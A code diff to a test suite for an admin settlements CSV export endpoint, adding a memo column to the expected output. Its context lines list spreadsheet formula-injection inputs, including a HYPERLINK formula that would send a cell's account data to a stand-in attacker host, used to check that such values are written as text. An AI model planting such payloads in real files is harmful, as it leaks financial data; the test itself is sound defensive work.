@@ -365,8 +365,8 @@ describe('/api/admin/settlements', () => {
     expect(response.statusCode).toBe(200);
     expect(response.headers['content-type']).toMatch(/^text\/csv/);
     const lines = response.body.replace('\uFEFF', '').trim().split('\r\n');
-    expect(lines[0]).toBe('bank,holder,account,amount,statementId');
-    expect(lines).toContain(`국민은행,홍길동,1002${creator.id},36000,${statementId}`);
+    expect(lines[0]).toBe('bank,holder,account,amount,statementId,memo');
+    expect(lines).toContain(`국민은행,홍길동,1002${creator.id},36000,${statementId},FM-S${statementId}`);
 
     // A holder that a spreadsheet would read as a formula is written as text.
     const formulas = ['=HYPERLINK("https://evil.example/?"&C2,"확인")', '+1+2', '-3', '@SUM(1)', '\tx', '\rx'];
